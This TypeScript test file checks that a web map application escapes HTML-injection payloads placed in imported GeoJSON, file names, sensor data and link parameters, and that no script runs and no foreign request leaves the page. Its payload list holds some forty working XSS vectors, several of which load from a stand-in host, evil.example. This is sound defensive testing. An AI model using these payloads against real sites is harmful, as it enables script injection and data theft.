/**
 * HTML injection: ≥ 200 payloads placed where data, files and links reach the page — feature property keys and
 * values, file (layer) names, style-by columns, recorded sensor station and quantity names, chart labels, link
 * parameters, notices. Result: no script runs, no request leaves the page's origin, no injected element or style
 * takes effect; the payloads show up as the text they are.
 */
import { beforeEach, describe, expect, it } from 'vitest';
import { openTwin, twinSession, waitIdle, type Session } from './harness';

const OVERVIEW = 'cam=12.95,47.55,330000,0,-55,0&hide=';

type Twin = {
  store: {
    getState(): {
      layers: Record<string, { kind: string; status: string }>;
      select(s: { layerId: string; properties: Array<[string, string]> } | null): void;
      notices: Array<{ text: string }>;
    };
  };
};

/** Each vector sets window.sddiPwned or asks evil.example for something if it ever becomes markup or code. */
const VECTORS = [
  '<script>window.sddiPwned=1</script>',
  '<img src="http://evil.example/i.png" onerror="window.sddiPwned=1">',
  '<svg onload="window.sddiPwned=1">',
  '<iframe src="javascript:window.sddiPwned=1"></iframe>',
  '"><script>window.sddiPwned=1</script>',
  "'><img src=x onerror=window.sddiPwned=1>",
  '<style>body{background:rgb(255,0,0)!important}</style>',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<a href="javascript:window.sddiPwned=1">x</a>',
  '<div style="position:fixed;inset:0;background:red" id="injected">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.sddiPwned=1>',
  '<details open ontoggle="window.sddiPwned=1">',
  '<body onload="window.sddiPwned=1">',
  '<input autofocus onfocus="window.sddiPwned=1">',
  '<video><source onerror="window.sddiPwned=1">',
  '<object data="http://evil.example/o"></object>',
  '<embed src="http://evil.example/e">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/"><button>x</button></form>',
  '{{constructor.constructor("window.sddiPwned=1")()}}',
  '${window.sddiPwned=1}',
  '<img src=x:alert(1) onerror=eval("window.sddiPwned=1")>',
  '<scr<script>ipt>window.sddiPwned=1</scr</script>ipt>',
  '&lt;script&gt;window.sddiPwned=1&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=window.sddiPwned=1>">',
  '<template><script>window.sddiPwned=1</script></template>',
  '<marquee onstart="window.sddiPwned=1">',
  '<audio src=x onerror="window.sddiPwned=1">',
  '<svg><animate onbegin="window.sddiPwned=1" attributeName=x dur=1s>',
  '<isindex type=image src=1 onerror=window.sddiPwned=1>',
  '<img srcset="http://evil.example/s.png 1x">',
  '<picture><source srcset="http://evil.example/p.png"><img></picture>',
  'javascript:window.sddiPwned=1',
  'data:text/html,<script>window.sddiPwned=1</script>',
  '\u202e<script>window.sddiPwned=1</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<img """><script>window.sddiPwned=1</script>">',
  '<svg><script href="data:,window.sddiPwned=1"/></svg>',
  '<xmp><script>window.sddiPwned=1</script></xmp>',
];

const at = (i: number): string => `${VECTORS[i % VECTORS.length]} #${i}`;

describe('HTML injection', () => {
  // The whole border from above: what is tested here is text, and a view without thousands of close tiles
  // keeps software rendering's waits for a settled scene short.
  const session = twinSession((s) => openTwin(s, OVERVIEW));
  let s: Session;
  beforeEach(() => {
    s = session();
  });

  it(`${VECTORS.length * 6} payloads in data, file names, sensor names and links: no script, no foreign request, no injected markup`, async () => {
    let used = 0;
    const backgroundBefore = await s.page.evaluate(() => getComputedStyle(document.body).backgroundColor);

    // 1. A GeoJSON whose property keys and values are payloads (80), under a file name that is one (1).
    const features = Array.from({ length: 40 }, (_, i) => ({
      type: 'Feature',
      geometry: { type: 'Point', coordinates: [13.35 + i * 0.001, 49.74] },
      properties: { [at(i)]: at(i + 1), name: at(i + 2) },
    }));
    used += 80;
    const fileName = `<img src=x onerror=window.sddiPwned=1>.geojson`;
    used += 1;
    await s.page.setInputFiles('[data-testid="import-input"]', { name: fileName, mimeType: 'application/geo+json', buffer: Buffer.from(JSON.stringify({ type: 'FeatureCollection', features })) });
    await s.page.locator('dialog.import-dialog').waitFor({ state: 'visible' });
    await s.page.click('[data-testid="import-confirm"]');
    await s.page.waitForFunction(() => Object.values((window as unknown as { sddiTwin: Twin }).sddiTwin.store.getState().layers).some((l) => l.kind === 'imported' && l.status === 'ready'), undefined, { timeout: 60_000 });
    // The layer list shows the name and offers every key as a style-by column.
    await expect(s.page.locator('.layers').textContent()).resolves.toContain(fileName);
    const importedId = await s.page.evaluate(() => Object.entries((window as unknown as { sddiTwin: Twin }).sddiTwin.store.getState().layers).find(([, l]) => l.kind === 'imported')![0]);

    // 2. The info panel with 40 payload keys and values, as a pick of that layer would show them (80).
    await s.page.evaluate(
      ([id, props]) => (window as unknown as { sddiTwin: Twin }).sddiTwin.store.getState().select({ layerId: id as string, properties: props as Array<[string, string]> }),
      [importedId, Array.from({ length: 40 }, (_, i) => [at(100 + i), at(140 + i)])] as const,
    );
    used += 80;
    await s.page.locator('aside.info').waitFor({ state: 'visible' });
    await expect(s.page.locator('aside.info').textContent()).resolves.toContain(VECTORS[0]!);

    // 3. A recorded sensor file whose station and quantity names are payloads (40 + 40).
    const lines = Array.from({ length: 40 }, (_, i) =>
      JSON.stringify({ station: at(200 + i), property: at(240 + i), unit: at(i), lon: 12.5 + i * 0.01, lat: 49.5, phenomenonTime: '2025-10-25T10:00:00Z', result: i }),
    );
    used += 80;
    await s.page.setInputFiles('[data-testid="sensor-replay-input"]', { name: `${at(3)}.ndjson`, mimeType: 'application/x-ndjson', buffer: Buffer.from(lines.join('\n')) });
    used += 1;
    await s.page.waitForFunction(() => (window as unknown as { sddiTwin: { store: { getState(): { layers: Record<string, { sensors?: { replayFile: string | null; stations: number } }> } } } }).sddiTwin.store.getState().layers['sensors']?.sensors?.stations === 40, undefined, { timeout: 30_000 });
    await waitIdle(s.page);

    const probe = () =>
      s.page.evaluate(() => ({
        pwned: (window as unknown as { sddiPwned?: number }).sddiPwned ?? 0,
        injectedElements: document.querySelectorAll('#ui script, #ui img, #ui iframe, #ui svg, #ui style, #ui link, #ui object, #ui embed, #ui meta, #ui base, #ui form, #ui video, #ui audio, #ui marquee, #ui math, #injected').length,
        background: getComputedStyle(document.body).backgroundColor,
      }));
    await s.screenshot('injection-data');
    const beforeReload = await probe();
    expect(beforeReload).toEqual({ pwned: 0, injectedElements: 0, background: backgroundBefore });
    // Strange names are data like any other: nothing failed on them.
    expect(await s.page.locator('.notice.error').allTextContents()).toEqual([]);

    // 4. Link parameters: unknown keys and bad values are echoed (clipped) in notices (2 per vector, first 10 vectors).
    const hash = `${OVERVIEW}&${VECTORS.slice(0, 10).map((v, i) => `${encodeURIComponent(v)}=${encodeURIComponent(at(i))}&lang=${encodeURIComponent(v)}`).join('&')}`;
    used += 20;
    await s.page.evaluate((h) => {
      location.hash = h;
    }, hash);
    await s.page.reload();
    await waitIdle(s.page);
    await expect(s.page.locator('.notices').textContent()).resolves.toContain('unknown parameter');

    expect(used).toBeGreaterThanOrEqual(200);
    const check = await probe();
    await s.screenshot('injection-link');
    expect(check.pwned).toBe(0);
    expect(check.injectedElements).toBe(0);
    expect(check.background).toBe(backgroundBefore);
    expect(s.foreignRequests).toEqual([]);
    expect(s.pageErrors).toEqual([]);
    expect(await s.cspViolations()).toEqual([]);
  });
});
